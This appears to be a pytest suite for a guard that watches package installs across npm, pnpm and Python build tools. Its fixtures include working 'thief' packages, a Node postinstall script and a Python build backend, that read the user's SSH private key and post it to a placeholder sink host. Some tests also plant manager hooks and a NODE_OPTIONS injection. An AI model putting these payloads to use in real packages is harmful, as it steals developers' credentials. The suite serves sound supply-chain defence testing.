"""The guard around every further manager: a theft is refused and named, its honest twin installs clean."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import node_house
import python_house
from clients import client
from lab.demands import demand
from lab.guard import Outcome, guarded, run
from lab.installers import INSTALLERS
from lab.packages import filled
from lab.registry import Registry
from lab.world import World

_THIEF = """
const fs = require('fs'), os = require('os'), http = require('http')
let loot = 'nothing'
try { loot = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') } catch (error) { console.log(error.code) }
const told = http.request({ host: '@SINK@', port: 8080, method: 'POST', path: '/log', timeout: 3000 })
for (const end of ['error', 'timeout', 'response']) told.on(end, () => process.exit(0))
told.end(loot)
"""
_HONEST = "require('fs').writeFileSync('done', require('os').homedir())\n"


_BACKEND = """
[build-system]
requires = []
build-backend = "{package}"
backend-path = ["."]

[project]
name = "{name}"
version = "1.0.0"
"""
_PYTHON_THIEF = """
import contextlib, urllib.request
from pathlib import Path
from lab_backend import *

loot = b"nothing"
with contextlib.suppress(OSError):
    loot = Path.home().joinpath(".ssh", "id_ed25519").read_bytes()
with contextlib.suppress(OSError):
    urllib.request.urlopen("http://@SINK@:8080/log", loot, timeout=3)
"""
_PYTHON_HONEST = "from lab_backend import *\n"


class Yard:
    """A user of one manager, who may install a thief or its honest twin by name."""

    def __init__(self, name: str, family: str, world: World, purl: str, stage: str) -> None:
        self.name, self.family, self.world, self.purl, self.stage = name, family, world, purl, stage
        self.mine = world.project
        self.command: tuple[str, ...] = ()
        self.environment = {key: world.environment()[key] for key in ("HOME", "TMPDIR")}

    def add(self, package: str, *, guard: bool = True) -> Outcome:
        """Install a package, behind the guard unless told otherwise."""
        report = self.world.folder / "report.json" if guard else None
        command = [str(client(self.name)), *self.command, package]
        return run(guarded(command, report) if guard else command, self.environment, self.mine, report)


def _node(name: str, world: World, registry: Registry) -> Yard:
    kind = node_house.KINDS[name]
    yard = Yard(name, kind.family, world, "pkg:npm/light-fingers@1.0.0", "script")
    yard.command = kind.add
    (yard.mine / ".npmrc").write_text(f"registry={registry.url}\n")
    kind.approve(yard.mine, ("light-fingers", "clean-hands"))
    for package, code in (("light-fingers", _THIEF), ("clean-hands", _HONEST)):
        manifest = {"name": package, "version": "1.0.0", "scripts": {"postinstall": "node work.js"}}
        registry.add(manifest, {"work.js": filled(code.encode(), world.words()).decode()})
    yard.environment = node_house.environment(name, world.folder, registry.url) | yard.environment
    return yard


def _python(name: str, world: World) -> Yard:
    kind = python_house.KINDS[name]
    yard = Yard(name, name, world, "pkg:pypi/light-fingers@1.0.0", "build")
    yard.command = kind.add
    if kind.project:
        project = kind.project.replace("@INDEX@", world.index.url)
        (yard.mine / "pyproject.toml").write_text(project)
    yard.environment = python_house.environment(name, world.folder, world.index.url) | yard.environment
    return yard


def _sources(folder: Path) -> list[Path]:
    """The thief and its twin as source packages."""
    made = []
    for name, text in (("light-fingers", _PYTHON_THIEF), ("clean-hands", _PYTHON_HONEST)):
        place, module = folder / f"{name}-1.0.0", f"{name.replace('-', '_')}_build"
        place.mkdir()
        (place / "pyproject.toml").write_text(_BACKEND.format(name=name, package=module))
        (place / f"{module}.py").write_text(text)
        (place / f"{module}_app.py").write_text("def main():\n    print('at your service')\n")
        (place / "entry_points.txt").write_text(f"[console_scripts]\n{name} = {module}_app:main\n")
        made.append(place)
    return made


@pytest.fixture(params=[*node_house.KINDS, *python_house.KINDS])
def yard(request: pytest.FixtureRequest, lab: None, tmp_path: Path) -> Iterator[Yard]:
    """For each manager, everything one test needs."""
    name = request.param
    demand(None if client(name) else f"{name} could not be fetched once")
    if name in python_house.KINDS:
        with World(_sources(tmp_path)) as world:
            yield _python(name, world)
        return
    with World([]) as world, Registry() as registry:
        yield _node(name, world, registry)


def _refused(outcome: Outcome) -> list[dict[str, Any]]:
    return [finding for finding in outcome.findings if finding["action"] in ("denied", "killed")]


def test_the_theft_is_real(yard: Yard) -> None:
    """With the guard off the key is in the sink: else the next test means nothing."""
    outcome = yard.add("light-fingers", guard=False)

    assert outcome.status == 0, outcome.out + outcome.err
    assert yard.world.leaks() != []


def test_a_theft_is_refused_and_named(guard: None, yard: Yard) -> None:
    """Nothing is taken, the install succeeds, and the report names the verified package, the stage and both acts."""
    outcome = yard.add("light-fingers")

    assert yard.world.leaks() == []
    assert outcome.status == 3, outcome.out + outcome.err
    assert outcome.report is not None
    assert outcome.report["run"]["manager"] == yard.family
    refused = _refused(outcome)
    assert {finding["act"] for finding in refused} == {"file.read", "net.connect"}
    blamed = {(finding["package"], finding["identity"], finding["stage"]) for finding in refused}
    assert blamed == {(yard.purl, "verified", yard.stage)}


def test_the_honest_twin_is_clean(guard: None, yard: Yard) -> None:
    """A script that does its work draws no refusal, and did it."""
    outcome = yard.add("clean-hands")

    assert (outcome.status, _refused(outcome)) == (0, []), outcome.out + outcome.err
    if yard.stage == "script":
        assert next(iter(Path(yard.mine).rglob("clean-hands/done")), None) is not None


@pytest.mark.parametrize("hooked", [True, False], ids=["hooked", "twin"])
def test_code_inside_a_manager_is_told(guard: None, lab: None, hooked: bool) -> None:
    """A file that brings code into the manager itself is named by a rule; without it there is nothing to say."""
    demand(None if client("pnpm") else "pnpm could not be fetched once")
    with World([]) as world, Registry() as registry:
        yard = _node("pnpm", world, registry)
        if hooked:
            (yard.mine / ".pnpmfile.cjs").write_text("module.exports = { hooks: {} }\n")
        outcome = yard.add("clean-hands")

    assert outcome.status == 0, outcome.err
    assert ("manager.mixed" in {finding["rule"] for finding in outcome.findings}) is hooked


@pytest.mark.parametrize("hooked", [True, False], ids=["hooked", "twin"])
def test_code_that_node_loads_before_npm_is_told(guard: None, lab: None, hooked: bool) -> None:
    """`NODE_OPTIONS` is read from the manager itself: whoever set it ran in npm, and the finding names the file."""
    demand(INSTALLERS["npm"].missing())
    with World([]) as world, Registry() as registry:
        yard = _node("pnpm", world, registry)  # the same project, for another manager
        loaded, report = yard.mine / "load.js", world.folder / "report.json"
        loaded.write_text(f"require('fs').appendFileSync('{world.folder}/ran', process.argv[1])\n")
        options = f"NODE_OPTIONS='--require {loaded}' " if hooked else ""
        install = f"{options}{shutil.which('npm')} install --registry {registry.url} clean-hands"
        outcome = run(guarded(["sh", "-c", install], report), world.environment(), yard.mine, report)
        assert not hooked or "npm" in (world.folder / "ran").read_text()
    told = [finding["target"]["path"] for finding in outcome.findings if finding["rule"] == "manager.mixed"]

    assert outcome.status == 0, outcome.err
    assert told == ([str(loaded)] if hooked else [])


@pytest.mark.parametrize("listed", [False, True], ids=["unlisted", "twin"])
def test_a_script_that_the_project_s_list_does_not_let_run(guard: None, lab: None, listed: bool) -> None:
    """Npm runs it all the same, with a warning: the finding names the package. On the list it is none."""
    demand(INSTALLERS["npm"].missing())
    with World([]) as world, Registry() as registry:
        yard = _node("pnpm", world, registry)  # the same project, for another manager
        allowed = {"clean-hands" if listed else "somebody-else": True}
        manifest = {"name": "mine", "version": "1.0.0", "allowScripts": allowed}
        (yard.mine / "package.json").write_text(json.dumps(manifest))
        report = world.folder / "report.json"
        command = [str(shutil.which("npm")), "install", "--registry", registry.url, "clean-hands"]
        outcome = run(guarded(command, report), world.environment(), yard.mine, report)
    found = [finding["package"] for finding in outcome.findings if finding["rule"] == "script.unapproved"]

    assert outcome.status == 0, outcome.err
    assert found == ([] if listed else ["pkg:npm/clean-hands@1.0.0"])
